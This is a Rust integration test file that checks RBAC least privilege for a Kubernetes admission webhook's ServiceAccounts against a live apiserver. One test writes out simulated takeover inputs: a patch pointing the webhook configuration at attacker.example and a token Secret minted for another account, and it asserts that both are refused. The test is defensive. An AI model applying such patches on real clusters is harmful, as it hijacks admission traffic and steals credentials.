//! Issue 20 on a real kube-apiserver v1.20.2: what each shipped identity may do, asked of
//! the apiserver (SelfSubjectAccessReviews made while impersonating the ServiceAccount,
//! `kubectl auth can-i --as`, and impersonated writes), and a Pod watch without its RBAC
//! named in `/readyz`. The certificate Job and `--client-ca` are in certs_e2e.rs, which
//! shares this module's plane.

use crate::cluster;

use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use cluster::{admin_status, repo_root, ControlPlane, Webhook};
use serde::Deserialize as _;
use serde_json::{json, Value};

pub(crate) const NS: &str = "rightsizer-system";
pub(crate) const WEBHOOK_SA: &str = "rightsizer";
pub(crate) const JOB_SA: &str = "rightsizer-certs";

static PLANE: tokio::sync::OnceCell<Result<ControlPlane, (bool, String)>> =
    tokio::sync::OnceCell::const_new();
pub(crate) static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

async fn init() -> Result<ControlPlane, (bool, String)> {
    if let Some(reason) = cluster::missing_prerequisite() {
        return Err((true, reason));
    }
    ControlPlane::start().map_err(|e| (false, e))
}

pub(crate) async fn setup() -> (tokio::sync::MutexGuard<'static, ()>, &'static ControlPlane) {
    let guard = SERIAL.lock().await;
    match PLANE.get_or_init(init).await {
        Ok(p) => (guard, p),
        Err((true, reason)) => {
            panic!("the control plane cannot run here: {reason} (tests/build.rs found it)")
        }
        Err((false, e)) => panic!("control plane setup failed: {e}"),
    }
}

fn yaml_docs(text: &str) -> Vec<Value> {
    serde_norway::Deserializer::from_str(text)
        .map(|d| Value::deserialize(d).unwrap())
        .filter(|v| !v.is_null())
        .collect()
}

pub(crate) fn kind(d: &Value) -> &str {
    d["kind"].as_str().unwrap_or_default()
}

pub(crate) fn kustomized(plane: &ControlPlane, dir: &Path) -> Vec<Value> {
    yaml_docs(&plane.kubectl_ok(&["kustomize", &dir.display().to_string()], None))
}

/// The self-managed overlay with deploy/components/pod-watch, as a user's overlay adds it.
fn with_pod_watch(plane: &ControlPlane, tmp: &Path) -> Vec<Value> {
    let status = Command::new("cp")
        .arg("-r")
        .arg(repo_root().join("deploy"))
        .arg(tmp)
        .status()
        .unwrap();
    assert!(status.success());
    let dir = tmp.join("deploy/overlays/pod-watch");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("kustomization.yaml"),
        "resources: [../self-managed]\ncomponents: [../../components/pod-watch]\n",
    )
    .unwrap();
    kustomized(plane, &dir)
}

fn helm_render(values: &str) -> Vec<Value> {
    let out = Command::new(crate::helm_path::helm_path())
        .args(["template", "rightsizer"])
        .arg(repo_root().join("deploy/chart/rightsizer"))
        .args(["--namespace", NS, "--set"])
        .arg(values)
        .env(
            "HELM_CONFIG_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/config"),
        )
        .env(
            "HELM_CACHE_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/cache"),
        )
        .env(
            "HELM_DATA_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/data"),
        )
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    yaml_docs(&String::from_utf8(out.stdout).unwrap())
}

pub(crate) const IDENTITY_KINDS: &[&str] = &[
    "Namespace",
    "ServiceAccount",
    "Role",
    "RoleBinding",
    "ClusterRole",
    "ClusterRoleBinding",
];

/// Objects as one `List` (kubectl reads one JSON document), the Namespace first.
fn list(docs: &[Value]) -> String {
    let mut items: Vec<&Value> = docs.iter().filter(|d| kind(d) == "Namespace").collect();
    items.extend(docs.iter().filter(|d| kind(d) != "Namespace"));
    json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string()
}

pub(crate) fn apply(plane: &ControlPlane, docs: &[Value]) {
    plane.kubectl_ok(&["apply", "-f", "-"], Some(&list(docs)));
}

pub(crate) fn delete(plane: &ControlPlane, docs: &[Value]) {
    let keep: Vec<Value> = docs
        .iter()
        .filter(|d| kind(d) != "Namespace")
        .cloned()
        .collect();
    plane.kubectl_ok(
        &["delete", "--ignore-not-found", "-f", "-"],
        Some(&list(&keep)),
    );
}

/// `kubectl auth can-i` as the ServiceAccount `sa` of rightsizer-system: the apiserver's
/// SelfSubjectAccessReview for the impersonated user. Polled for up to 10 s, since the
/// RBAC authorizer sees applied and deleted roles through its own watch.
fn can_i(plane: &ControlPlane, sa: &str, args: &[&str], want: bool) -> bool {
    let user = format!("system:serviceaccount:{NS}:{sa}");
    let mut a = vec!["auth", "can-i", "--as", user.as_str()];
    a.extend(args);
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let out = plane.kubectl(&a, None);
        let said = String::from_utf8_lossy(&out.stdout).trim() == "yes";
        if said == want || Instant::now() > deadline {
            return said;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The questions asked of every identity: (what, kubectl auth can-i arguments, who may).
/// `Job` is the certificate Job's ServiceAccount, `Reader` the webhook when it reads its
/// Secret (self-managed), `PodWatch` the webhook with the pod-watch RBAC.
#[derive(Clone, Copy, PartialEq)]
enum Who {
    Nobody,
    Job,
    JobAndReader,
    PodWatch,
}

const QUESTIONS: &[(&str, &[&str], Who)] = &[
    (
        "patch its webhook configuration",
        &["patch", "mutatingwebhookconfigurations/rightsizer"],
        Who::Job,
    ),
    (
        "patch another webhook configuration",
        &["patch", "mutatingwebhookconfigurations/other"],
        Who::Nobody,
    ),
    (
        "patch any webhook configuration",
        &["patch", "mutatingwebhookconfigurations"],
        Who::Nobody,
    ),
    (
        "create a webhook configuration",
        &["create", "mutatingwebhookconfigurations"],
        Who::Nobody,
    ),
    (
        "patch a validating configuration",
        &["patch", "validatingwebhookconfigurations/rightsizer"],
        Who::Nobody,
    ),
    (
        "create a Secret in its namespace",
        &["create", "secrets", "-n", NS],
        Who::Nobody,
    ),
    (
        "create a Secret elsewhere",
        &["create", "secrets", "-n", "default"],
        Who::Nobody,
    ),
    (
        "update another Secret",
        &["update", "secrets/other", "-n", NS],
        Who::Nobody,
    ),
    (
        "read another Secret",
        &["get", "secrets/other", "-n", NS],
        Who::Nobody,
    ),
    ("list Secrets", &["list", "secrets", "-n", NS], Who::Nobody),
    (
        "update its TLS Secret",
        &["update", "secrets/rightsizer-tls", "-n", NS],
        Who::Job,
    ),
    (
        "read its TLS Secret",
        &["get", "secrets/rightsizer-tls", "-n", NS],
        Who::JobAndReader,
    ),
    (
        "mint a token",
        &[
            "create",
            "serviceaccounts",
            "--subresource",
            "token",
            "-n",
            NS,
        ],
        Who::Nobody,
    ),
    (
        "create a ServiceAccount",
        &["create", "serviceaccounts", "-n", NS],
        Who::Nobody,
    ),
    (
        "list Pods everywhere",
        &["list", "pods", "--all-namespaces"],
        Who::PodWatch,
    ),
    (
        "watch Pods everywhere",
        &["watch", "pods", "--all-namespaces"],
        Who::PodWatch,
    ),
    (
        "get a Pod",
        &["get", "pods/app", "-n", "default"],
        Who::Nobody,
    ),
    (
        "exec into a Pod",
        &["create", "pods", "--subresource", "exec", "-n", "default"],
        Who::Nobody,
    ),
];

/// Every ServiceAccount of `docs`, asked every question; returns what was wrong.
fn check_install(plane: &ControlPlane, what: &str, docs: &[Value]) -> Vec<String> {
    let identity: Vec<Value> = docs
        .iter()
        .filter(|d| IDENTITY_KINDS.contains(&kind(d)))
        .cloned()
        .collect();
    apply(plane, &identity);
    let sas: Vec<String> = identity
        .iter()
        .filter(|d| kind(d) == "ServiceAccount")
        .map(|d| d["metadata"]["name"].as_str().unwrap().to_string())
        .collect();
    assert!(sas.contains(&WEBHOOK_SA.to_string()), "{what}: {sas:?}");
    let reads_secret = docs
        .iter()
        .any(|d| kind(d) == "Role" && d["metadata"]["name"] == "rightsizer-tls-reader");
    let watches_pods = docs
        .iter()
        .any(|d| kind(d) == "ClusterRole" && d["metadata"]["name"] == "rightsizer-pods");
    let mut wrong = Vec::new();
    for sa in &sas {
        for (question, args, who) in QUESTIONS {
            let may = match who {
                Who::Nobody => false,
                Who::Job => sa == JOB_SA,
                Who::JobAndReader => sa == JOB_SA || (sa == WEBHOOK_SA && reads_secret),
                Who::PodWatch => sa == WEBHOOK_SA && watches_pods,
            };
            let said = can_i(plane, sa, args, may);
            eprintln!("{what}: {sa} may {question}: {said}");
            if said != may {
                wrong.push(format!(
                    "{what}: {sa} may {question}: {said}, should be {may}"
                ));
            }
        }
    }
    delete(plane, &identity);
    wrong
}

/// Every identity of every kustomize install, asked of the apiserver.
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn no_kustomize_identity_can_redirect_admission_mint_tokens_or_read_pods() {
    let (_g, plane) = setup().await;
    let deploy = repo_root().join("deploy");
    let tmp = tempfile::tempdir().unwrap();
    let mut wrong = Vec::new();
    for k in ["base", "overlays/cert-manager", "overlays/self-managed"] {
        wrong.extend(check_install(plane, k, &kustomized(plane, &deploy.join(k))));
    }
    wrong.extend(check_install(
        plane,
        "self-managed + pod-watch",
        &with_pod_watch(plane, tmp.path()),
    ));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The same for the chart's renders (self-managed with and without the Pod watch,
/// cert-manager).
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
#[cfg_attr(
    not(has_helm),
    ignore = "no helm here: run tests/tools/helm.sh (tests/run does)"
)]
async fn no_chart_identity_can_redirect_admission_mint_tokens_or_read_pods() {
    let (_g, plane) = setup().await;
    let mut wrong = Vec::new();
    for values in [
        "replicas=2",
        "certificates.mode=cert-manager",
        "kubeStateMetrics=auto",
    ] {
        let mut docs = helm_render(values);
        docs.push(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}));
        wrong.extend(check_install(plane, &format!("chart {values}"), &docs));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Not only the review: the webhook's own token, used, is refused what the takeover
/// needed (patching the webhook configuration, a token Secret for another account).
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn the_webhooks_identity_is_refused_the_takeover_writes() {
    let (_g, plane) = setup().await;
    let docs = kustomized(plane, &repo_root().join("deploy/overlays/self-managed"));
    let keep: Vec<Value> = docs
        .iter()
        .filter(|d| {
            IDENTITY_KINDS.contains(&kind(d))
                || ["MutatingWebhookConfiguration", "Secret"].contains(&kind(d))
        })
        .cloned()
        .collect();
    apply(plane, &keep);
    let as_webhook = plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{WEBHOOK_SA}"));
    let kc = |args: &[&str], stdin: Option<&str>| {
        let mut a = vec!["--kubeconfig", as_webhook.to_str().unwrap()];
        a.extend(args);
        plane.kubectl(&a, stdin)
    };
    let redirect = r#"{"webhooks":[{"name":"mutate.rightsizer.io","clientConfig":{"url":"https://attacker.example/mutate"}}]}"#;
    let token = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "minted", "namespace": NS, "annotations": {"kubernetes.io/service-account.name": JOB_SA}}});
    for (what, out) in [
        (
            "patch the webhook configuration",
            kc(
                &[
                    "patch",
                    "mutatingwebhookconfiguration",
                    "rightsizer",
                    "-p",
                    redirect,
                ],
                None,
            ),
        ),
        (
            "create a token Secret",
            kc(&["create", "-f", "-"], Some(&token.to_string())),
        ),
        (
            "update its TLS Secret",
            kc(
                &["-n", NS, "label", "secret", "rightsizer-tls", "x=y"],
                None,
            ),
        ),
        ("list Pods", kc(&["get", "pods", "-A"], None)),
    ] {
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains("forbidden"),
            "{what}: {err}"
        );
    }
    // What it needs works: reading its Secret.
    let out = kc(&["-n", NS, "get", "secret", "rightsizer-tls"], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    delete(plane, &keep);
}

// ---------------------------------------------------------------- the Pod watch's RBAC

/// The base grants no Pods: a webhook configured to watch them (`--kube-state-metrics
/// never`, what deploy/components/pod-watch sets) under the base's rights says so in
/// `/readyz` and its log; with the component's ClusterRole it is ready.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn a_pod_watch_without_its_rbac_says_so_in_readyz_and_the_log() {
    let (_g, plane) = setup().await;
    let tmp = tempfile::tempdir().unwrap();
    let docs = with_pod_watch(plane, tmp.path());
    let pod_rbac: Vec<Value> = docs
        .iter()
        .filter(|d| d["metadata"]["name"] == "rightsizer-pods")
        .cloned()
        .collect();
    assert_eq!(pod_rbac.len(), 2, "the component's ClusterRole and binding");
    let base: Vec<Value> = docs
        .iter()
        .filter(|d| {
            (IDENTITY_KINDS.contains(&kind(d)) || kind(d) == "CustomResourceDefinition")
                && d["metadata"]["name"] != "rightsizer-pods"
        })
        .cloned()
        .collect();
    apply(plane, &base);
    plane.kubectl_ok(
        &[
            "wait",
            "--for=condition=established",
            "--timeout=30s",
            "crd/rightsizings.rightsizer.io",
        ],
        None,
    );
    let start = |name: &str| {
        let dir = tmp.path().join(name);
        std::fs::create_dir_all(&dir).unwrap();
        let tls = cluster::generate_tls(&dir);
        let addr: SocketAddr = format!("127.0.0.1:{}", cluster::free_port())
            .parse()
            .unwrap();
        Webhook::start(
            addr,
            &tls,
            &plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{WEBHOOK_SA}")),
            &[
                "--own-namespace",
                NS,
                "--kube",
                "always",
                "--prometheus",
                "http://127.0.0.1:9",
            ]
            .map(String::from),
            &[
                ("POD_NAME", name),
                ("RIGHTSIZER_KUBE_STATE_METRICS", "never"),
            ],
            dir.join("serve.log"),
        )
        .expect("serve starts")
    };
    let readyz_until = |webhook: &Webhook, want: fn(u16, &str) -> bool| {
        let admin = webhook.admin;
        async move {
            let deadline = Instant::now() + Duration::from_secs(20);
            loop {
                let r = admin_status(admin, "/readyz").await;
                if r.as_ref().is_ok_and(|(c, b)| want(*c, b)) || Instant::now() > deadline {
                    return r;
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        }
    };
    let forbidden = start("forbidden");
    let r = readyz_until(&forbidden, |c, b| c == 503 && b.contains("may not")).await;
    let (code, body) = r.unwrap();
    assert_eq!(code, 503, "{body}");
    assert!(
        body.contains("configured to watch Pods (--kube-state-metrics never) but this ServiceAccount may not list pods"),
        "{body}"
    );
    assert!(
        forbidden.log_text().contains("may not list pods"),
        "{}",
        forbidden.log_text()
    );
    drop(forbidden);

    apply(plane, &pod_rbac);
    // The authorizer sees the new binding through its own watch.
    assert!(can_i(
        plane,
        WEBHOOK_SA,
        &["list", "pods", "--all-namespaces"],
        true
    ));
    let allowed = start("allowed");
    let r = readyz_until(&allowed, |c, _| c == 200).await;
    assert_eq!(
        r.as_ref().map(|r| r.0),
        Ok(200),
        "{r:?}\n{}",
        allowed.log_text()
    );
    drop(allowed);
    delete(plane, &base);
    delete(plane, &pod_rbac);
}
